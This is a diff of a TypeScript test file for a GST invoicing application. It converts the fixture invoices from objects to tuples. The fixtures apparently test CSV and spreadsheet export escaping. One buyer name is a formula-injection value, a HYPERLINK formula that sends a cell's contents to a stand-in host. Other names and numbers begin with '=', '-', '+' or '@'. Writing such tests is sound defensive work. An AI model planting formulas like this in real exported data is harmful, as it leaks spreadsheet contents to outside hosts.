@@ -18,65 +18,26 @@ beforeAll(async () => {
 });
 afterAll(() => t.close());
 
-interface Document {
-  number: string;
-  date: string;
-  buyer: { name: string; gstin?: string };
-  placeOfSupply: string;
-  /** taxable, cgst, sgst, igst, round off, total */
-  amounts: [number, number, number, number, number, number];
-  status: string;
-}
+type Buyer = { name: string; gstin?: string };
+/** taxable, cgst, sgst, igst, round off, total */
+type Amounts = [number, number, number, number, number, number];
+type Document = [
+  number: string,
+  date: string,
+  buyer: Buyer,
+  placeOfSupply: string,
+  amounts: Amounts,
+  status: string,
+];
 
+// prettier-ignore
 const DOCUMENTS: Document[] = [
-  {
-    number: 'INV/2026-27/0001',
-    date: '2026-04-01',
-    buyer: { name: 'સુરત સિલ્ક' },
-    placeOfSupply: '24',
-    amounts: [1000, 25, 25, 0, 0, 1050],
-    status: 'unpaid',
-  },
-  {
-    number: 'INV/2026-27/0002',
-    date: '2026-04-02',
-    buyer: { name: 'Shah, "Silks" & Sons', gstin: '27AAPFU0939F1ZV' },
-    placeOfSupply: '27',
-    amounts: [1234.5, 0, 0, 222.21, -0.71, 1456],
-    status: 'partly_paid',
-  },
-  {
-    number: 'INV/2026-27/0003',
-    date: '2026-04-02',
-    buyer: { name: '=HYPERLINK("http://x.test/?d="&A1)' },
-    placeOfSupply: '99',
-    amounts: [10, 0.25, 0.25, 0, 0.5, 11],
-    status: 'cancelled',
-  },
-  {
-    number: 'INV/2026-27/0004',
-    date: '2026-04-03',
-    buyer: { name: '-2+3 Traders' },
-    placeOfSupply: '24',
-    amounts: [99999999.99, 0, 0, 0, 0.01, 100000000],
-    status: 'paid',
-  },
-  {
-    number: '@INV/0005',
-    date: '2026-04-04',
-    buyer: { name: 'Line one\nline two', gstin: '+24AAACS1234A1Z5' },
-    placeOfSupply: '24',
-    amounts: [0.1, 0, 0, 0, -0.1, 0],
-    status: 'unpaid',
-  },
-  {
-    number: 'INV/2026-27/0006',
-    date: '2026-04-04',
-    buyer: { name: '\tTabbed\rreturn' },
-    placeOfSupply: '',
-    amounts: [5, 0, 0, 0, 0, 5],
-    status: 'unpaid',
-  },
+  ['INV/2026-27/0001', '2026-04-01', { name: 'સુરત સિલ્ક' }, '24', [1000, 25, 25, 0, 0, 1050], 'unpaid'],
+  ['INV/2026-27/0002', '2026-04-02', { name: 'Shah, "Silks" & Sons', gstin: '27AAPFU0939F1ZV' }, '27', [1234.5, 0, 0, 222.21, -0.71, 1456], 'partly_paid'],
+  ['INV/2026-27/0003', '2026-04-02', { name: '=HYPERLINK("http://x.test/?d="&A1)' }, '99', [10, 0.25, 0.25, 0, 0.5, 11], 'cancelled'],
+  ['INV/2026-27/0004', '2026-04-03', { name: '-2+3 Traders' }, '24', [99999999.99, 0, 0, 0, 0.01, 100000000], 'paid'],
+  ['@INV/0005', '2026-04-04', { name: 'Line one\nline two', gstin: '+24AAACS1234A1Z5' }, '24', [0.1, 0, 0, 0, -0.1, 0], 'unpaid'],
+  ['INV/2026-27/0006', '2026-04-04', { name: '\tTabbed\rreturn' }, '', [5, 0, 0, 0, 0, 5], 'unpaid'],
 ];
 
 /** Fixed ids, so documents of one date come in the same order in every run. */
@@ -86,17 +47,20 @@ async function writeDocuments(user: TestUser) {
   const organizationId = user.auth.organization._id;
   const merchantId = await createStateMerchant(t, user, { name: 'Any', state: GUJARAT });
   const db = t.database.handle.db;
-  for (const [index, document] of DOCUMENTS.entries()) {
-    const [taxable, cgst, sgst, igst, roundOff, total] = document.amounts;
+  for (const [
+    index,
+    [number, date, buyer, placeOfSupply, amounts, status],
+  ] of DOCUMENTS.entries()) {
+    const [taxable, cgst, sgst, igst, roundOff, total] = amounts;
     await db.execute(sql`insert into bills
         (organization_id, id, number, merchant_id, bill_date, due_date, bill_type, gst_rate,
          place_of_supply, taxable_amount, cgst_amount, sgst_amount, igst_amount, round_off,
          total_amount, paid_amount, status, seller, merchant)
-      values (${organizationId}, ${fixedId(index + 1)}, ${document.number}, ${merchantId},
-        ${document.date}, ${document.date}, 'tax_invoice', 5, ${document.placeOfSupply},
+      values (${organizationId}, ${fixedId(index + 1)}, ${number}, ${merchantId},
+        ${date}, ${date}, 'tax_invoice', 5, ${placeOfSupply},
         ${taxable}, ${cgst}, ${sgst}, ${igst}, ${roundOff}, ${total},
-        ${document.status === 'paid' ? total : 0}, ${document.status},
-        '{"name": "Seller"}'::jsonb, ${JSON.stringify(document.buyer)}::jsonb)`);
+        ${status === 'paid' ? total : 0}, ${status},
+        '{"name": "Seller"}'::jsonb, ${JSON.stringify(buyer)}::jsonb)`);
   }
   const note = (id: number, kind: 'credit' | 'debit', number: string, billId: number) =>
     db.execute(sql`insert into bill_notes
